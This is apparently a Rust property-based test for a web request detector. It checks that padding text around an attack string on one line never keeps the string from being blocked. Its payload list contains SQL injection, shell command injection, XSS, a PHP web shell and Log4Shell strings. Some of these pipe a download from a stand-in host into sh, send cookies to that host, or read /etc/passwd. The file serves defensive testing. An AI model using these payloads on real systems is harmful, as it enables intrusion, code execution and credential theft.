//! Nothing that a sender puts beside a payload on one line makes a file of it: neither a length nor a
//! beginning of a program.

use std::sync::LazyLock;

use proptest::prelude::*;

use crate::{Analysis, Detectors, Level, Location, Place};

static DETECTORS: LazyLock<Detectors> = LazyLock::new(Detectors::new);

/// Pieces that harm wherever they stand in a line, by what they begin and end with.
const PAYLOADS: &[&str] = &[
    "x' or '1'='1",
    "' or 1=1 -- ",
    "\" or 1=1 -- ",
    "x') or ('1'='1",
    "1' union select name, password from users -- ",
    "'; drop table users -- ",
    "it' || (select 1 from (select sleep(5))a) || '",
    "' and sleep(5)#",
    "1%' or (1=1)*4 and '%'='",
    "';cat /etc/passwd;'",
    "; curl http://a.example/x | sh",
    "| cat /etc/passwd",
    "`cat /etc/passwd`",
    "$(curl http://a.example/x)",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(document.domain)>",
    "<svg onload=\"fetch('//a.example/?'+document.cookie)\">",
    "';alert(document.cookie)//",
    "\");new Image().src='//a.example/?'+document.cookie;//",
    "<?php system($_GET['c']); ?>",
    "{{''.__class__.__mro__}}",
    "${jndi:ldap://a.example/x}",
    "' || this.password == 'a",
    "'] | //user/* | //a['",
];

/// Text of `kind` of at least `length` bytes, on one line.
fn padding(kind: usize, length: usize) -> String {
    const KINDS: &[&str] = &[
        "x ",
        "x",
        "ordinary words of a sentence, ",
        "one,two,three,",
        "{\"a\":1,\"b\":[2,3]} ",
        "<p>text</p>",
        "YWJjZGVmZ2hp",
        "var a=1;",
        "function f(a){return a+1}",
        "!function(){\"use strict\";var a=[1,2,3]}();",
        "/* made small */",
        "a:hover{color:red}",
    ];
    KINDS[kind % KINDS.len()].repeat(length.div_ceil(KINDS[kind % KINDS.len()].len()))
}

const KINDS: usize = 12;

/// Where a text stands: fields for files, and a body that is stored.
#[derive(Clone, Copy, Debug)]
enum At {
    Json(&'static str),
    Form(&'static str),
    Put,
}

const PLACES: &[At] =
    &[At::Json("content"), At::Form("source_code"), At::Json("file.data"), At::Form("wpTextbox1"), At::Put];

fn is_blocked(at: At, text: &str) -> bool {
    let mut analysis = Analysis::new();
    match at {
        At::Json(name) => {
            analysis.value(&DETECTORS, Location::new(Place::Json, name.as_bytes()), text.as_bytes())
        }
        At::Form(name) => {
            analysis.value(&DETECTORS, Location::new(Place::Form, name.as_bytes()), text.as_bytes())
        }
        At::Put => {
            analysis.request_head(&DETECTORS, b"PUT", b"/dav/a", std::iter::empty());
            analysis.request_body(&DETECTORS, b"application/octet-stream", text.as_bytes());
        }
    }
    analysis.worst(&DETECTORS, Level::Balanced).is_some_and(|worst| worst.blocks(Level::Balanced))
}

/// A payload with text before and after it that is blocked at one length is blocked at any other; tells
/// which is not.
fn check_lengths(at: At, payload: &str, kind: usize, place: usize, lengths: &[usize]) -> Result<(), String> {
    let text = |length: usize| match place % 3 {
        0 => padding(kind, length) + payload,
        1 => payload.to_owned() + &padding(kind, length),
        _ => padding(kind, length) + payload + &padding(kind, length),
    };
    let passes = |length: &&usize| !is_blocked(at, &text(**length));
    match lengths.iter().find(passes).filter(|_| is_blocked(at, &text(1))) {
        None => Ok(()),
        Some(length) => Err(format!("{at:?}, {length} bytes of {:?}, {place}: {payload}", padding(kind, 1))),
    }
}

#[test]
fn padding_makes_no_file_of_a_line() {
    let mut wrong = Vec::new();
    for &at in PLACES {
        for payload in PAYLOADS {
            for case in 0..3 * KINDS {
                wrong.extend(check_lengths(at, payload, case / 3, case % 3, &[80, 120, 1000, 1100]).err());
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_length_says_nothing(
        at in prop::sample::select(PLACES),
        payload in prop::sample::select(PAYLOADS),
        kind in 0..KINDS,
        place in 0usize..3,
        length in 1usize..8_000,
    ) {
        prop_assert_eq!(check_lengths(at, payload, kind, place, &[length]), Ok(()));
    }
}
